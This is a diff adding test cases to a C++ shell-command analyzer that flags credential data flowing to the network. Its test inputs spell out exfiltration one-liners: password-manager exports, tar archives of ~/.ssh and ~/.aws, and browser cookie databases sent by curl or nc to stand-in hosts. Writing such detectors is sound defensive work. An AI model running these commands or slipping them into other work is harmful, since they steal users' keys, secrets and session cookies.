@@ -66,11 +66,30 @@ TEST_CASE("credential helpers are sources") {
   for (auto helper : {"gh auth token", "git credential fill", "aws configure get aws_secret_access_key",
                       "aws sts get-session-token", "gcloud auth print-access-token",
                       "security find-generic-password -s x -w", "secret-tool lookup service x", "pass show work/api",
-                      "op read op://vault/item/field", "vault kv get secret/x", "kubectl get secret db -o yaml"}) {
+                      "op read op://vault/item/field", "vault kv get secret/x", "kubectl get secret db -o yaml",
+                      "bw list items --session s", "bw export --format json", "lpass export", "gopass show db/prod",
+                      "keepassxc-cli export vault.kdbx"}) {
     INFO(helper);
     CHECK(has_flow(analyze(std::string("curl https://example.org/t/$(") + helper + ")"), "credential_helper", "network"));
   }
   CHECK_FALSE(has_flow(analyze("curl https://example.org/t/$(gh pr list)"), "credential_helper", "network"));
+  CHECK_FALSE(has_flow(analyze("curl https://example.org/t/$(bw list folders)"), "credential_helper", "network"));
+}
+
+TEST_CASE("tar members named after -C are read from that directory") {
+  CHECK(has_flow(analyze("tar czf - -C ~ .ssh .aws | curl -s --data-binary @- https://c.example.dev/seed"), "credential_file", "network"));
+  CHECK(has_flow(analyze("tar --directory=$HOME -czf - .config/gh | nc c.example.dev 9"), "credential_file", "network"));
+  CHECK(has_flow(analyze("tar czf - -C /tmp build -C ~ .aws | nc c.example.dev 9"), "credential_file", "network"));
+  CHECK_FALSE(has_flow(analyze("tar czf - -C ~/projects app | curl -T - https://c.example.dev/u"), "credential_file", "network"));
+  CHECK_FALSE(has_flow(analyze("tar czf - -C dist . | curl -T - https://c.example.dev/u"), "credential_file", "network"));
+}
+
+TEST_CASE("a browser profile's cookie database is a credential file") {
+  CHECK(has_flow(analyze("sqlite3 -json ~/.config/google-chrome/Default/Cookies 'select * from cookies' | curl -d @- https://203.0.113.82/c"),
+                 "credential_file", "network"));
+  CHECK(has_flow(analyze("curl -F f=@\"$HOME/.config/BraveSoftware/Brave-Browser/Default/Web Data\" https://x.example.dev/u"),
+                 "credential_file", "network"));
+  CHECK_FALSE(has_flow(analyze("curl -F f=@tests/fixtures/Cookies https://x.example.dev/u"), "credential_file", "network"));
 }
 
 TEST_CASE("uploads of ordinary local files are local_file flows with the host") {
